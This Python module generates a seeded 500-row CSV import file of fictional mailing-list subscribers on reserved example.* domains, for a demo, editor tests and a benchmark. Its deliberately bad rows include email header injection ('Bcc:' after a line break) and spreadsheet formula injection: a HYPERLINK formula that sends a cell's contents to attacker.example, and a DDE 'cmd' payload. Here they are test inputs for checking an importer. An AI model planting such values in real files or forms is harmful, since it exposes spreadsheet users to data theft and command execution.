"""A realistic 500-row import file for the demo, the editor tests and the benchmark.

Addresses use only the reserved example.* domains (RFC 2606), so a misconfigured demo
can never mail a real person.
"""

import csv
import io
import random

__all__ = ["demo_import_rows"]

_DEMO_PEOPLE: tuple[tuple[str, str], ...] = (
    ("Jürgen", "juergen"), ("Anna", "anna"), ("Jörg", "joerg"), ("Björn", "bjoern"),
    ("Sören", "soeren"), ("Käthe", "kaethe"), ("Günther", "guenther"),
    ("Lena", "lena"), ("Maren", "maren"), ("Hauke", "hauke"), ("Inge", "inge"),
    ("Frauke", "frauke"), ("Kirsten", "kirsten"), ("Malte", "malte"),
    ("Ayşe", "ayse"), ("Mehmet", "mehmet"), ("Gülşen", "guelsen"),
    ("Ahmad", "ahmad"), ("Fatemeh", "fatemeh"), ("Olena", "olena"),
    ("Dmytro", "dmytro"), ("Mariam", "mariam"), ("Yusuf", "yusuf"),
    ("Zainab", "zainab"), ("Ewa", "ewa"), ("Tomasz", "tomasz"),
)  # fmt: skip
_DEMO_SURNAMES: tuple[tuple[str, str], ...] = (
    ("Müller", "mueller"), ("Schröder", "schroeder"), ("Jürgensen", "juergensen"),
    ("Petersen", "petersen"), ("Hansen", "hansen"), ("Jensen", "jensen"),
    ("Sørensen", "soerensen"), ("Thomsen", "thomsen"), ("Lüthje", "luethje"),
    ("Krüger", "krueger"), ("Öztürk", "oeztuerk"), ("Yılmaz", "yilmaz"),
    ("Al-Hassan", "alhassan"), ("Hosseini", "hosseini"), ("Kowalenko", "kowalenko"),
    ("Nowak", "nowak"), ("Haddad", "haddad"), ("Schäfer", "schaefer"),
)  # fmt: skip
_DEMO_ORGANISATIONS: tuple[tuple[str, str], ...] = (
    ("Deutsch-Dänischer Kulturverein", "kulturverein"),
    ("Migrationsberatung Nord", "migrationsberatung"),
    ("Begegnungsstätte Neustadt", "begegnung-neustadt"),
    ("Sprachcafé Fördestraße", "sprachcafe"),
    ("Elternnetzwerk Mürwik", "elternnetz-muerwik"),
    ("Ehrenamtsbörse", "ehrenamt"),
    ("مركز اللقاء العربي", "arabisches-zentrum"),
    ("Українська громада", "ukrainische-gemeinde"),
)
_DEMO_DOMAINS = ("example.org", "example.com", "example.net", "mail.example.org")
_DEMO_INVALID_ADDRESSES = (
    "hans.petersen(at)example.org",
    "anna.jensen@example",
    "ole@@example.org",
    "maria lena@example.org",
    "kai.thomsen@example.org.",
    "info@verein@example.org",
    "olena.kowalenko@example,org",
    "jens..hansen@example.net",
    "@example.com",
    "",
)
_DEMO_NAMES_WITH_BREAKS = (
    "Inge\r\nThomsen",
    "Malte Krüger\nBcc: everyone@example.net",
    "Ewa\rNowak",
    "Frauke Lüthje\r\n",
    "Hauke\n\nJensen",
)
_DEMO_FORMULA_NAMES = (
    '=HYPERLINK("http://attacker.example/?x="&A2;"Anmelden")',
    "+49 461 85-0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUMME(A1:A9)",
    "=1+1",
)
_DEMO_BAD_LANGUAGES = ("fr", "deutsch", "English", "pl")
_DEMO_GOOD_ROWS = 470
_DEMO_DUPLICATES = 6


def demo_import_rows(seed: int = 7) -> tuple[bytes, int, int]:
    """Return a realistic 500-row import file and its counts of good and bad rows."""
    rng = random.Random(seed)
    keys: set[str] = set()

    def fresh_address(slug: str) -> str:
        domain = rng.choice(_DEMO_DOMAINS)
        candidate = f"{slug}@{domain}"
        number = 2
        while candidate in keys:
            candidate = f"{slug}{number}@{domain}"
            number += 1
        keys.add(candidate)
        return candidate

    def person() -> tuple[str, str]:
        first, first_slug = rng.choice(_DEMO_PEOPLE)
        last, last_slug = rng.choice(_DEMO_SURNAMES)
        style = rng.randrange(4)
        slug = (
            f"{first_slug}.{last_slug}",
            f"{first_slug[0]}.{last_slug}",
            f"{first_slug}{last_slug}",
            f"{last_slug}.{first_slug}",
        )[style]
        return f"{first} {last}", slug

    def language() -> str:
        return rng.choices(["de", "en", "", "DE", " en "], [70, 15, 10, 3, 2])[0]

    good: list[list[str]] = []
    for name, slug in _DEMO_ORGANISATIONS:
        good.append([fresh_address(slug), name, "de"])
    while len(good) < _DEMO_GOOD_ROWS:
        name, slug = person()
        # Some people leave the name out, or use a dash for "none".
        shown = rng.choices([name, "", "-"], [90, 8, 2])[0]
        good.append([fresh_address(slug), shown, language()])

    bad: list[list[str]] = []
    for original in rng.sample(good, _DEMO_DUPLICATES):
        # Differently written, still the same subscriber.
        variant = rng.choice([str.upper, str.title, str.swapcase])(original[0])
        bad.append([f" {variant}", original[1], original[2]])
    bad.extend(
        [address, rng.choice(["", person()[0]]), "de"] for address in _DEMO_INVALID_ADDRESSES
    )
    for name in _DEMO_NAMES_WITH_BREAKS + _DEMO_FORMULA_NAMES:
        bad.append([fresh_address(person()[1]), name, "de"])
    for code in _DEMO_BAD_LANGUAGES:
        name, slug = person()
        bad.append([fresh_address(slug), name, code])

    rows = good + bad
    rng.shuffle(rows)
    out = io.StringIO(newline="")
    # What Excel's "CSV UTF-8" writes: BOM, semicolons, CRLF.
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["E-Mail", "Name", "Sprache"])
    writer.writerows(rows)
    return out.getvalue().encode("utf-8-sig"), len(good), len(bad)
